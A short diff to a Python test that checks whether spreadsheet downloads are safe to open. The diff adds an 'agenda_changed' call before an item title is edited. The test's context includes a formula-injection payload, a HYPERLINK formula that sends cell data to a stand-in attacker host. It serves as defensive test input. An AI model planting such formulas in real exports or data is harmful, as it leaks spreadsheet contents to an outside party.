@@ -24,6 +24,7 @@ from handlers.ports import Requester
 from handlers.reply import Tone, Visibility
 from handlers.text import render_text
 from models.db import session
+from models.revision import agenda_changed
 from models.tables import AuditEntry, Commitment, DashboardLink
 from scheduling.clock import FixedClock
 from tests.conftest import TODAY, settings_for
@@ -150,6 +151,7 @@ def test_downloads_are_the_filtered_items_and_safe_to_open_in_a_spreadsheet(agen
     path = link_for(agenda, MEMBER)
     formula = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
     with session(engine) as db:  # a title as someone with edit rights could type it
+        agenda_changed(db)  # as every writer of agenda rows must
         item = db.exec(select(Commitment).where(Commitment.key == "2002-A4")).one()
         item.title = formula
         db.add(item)
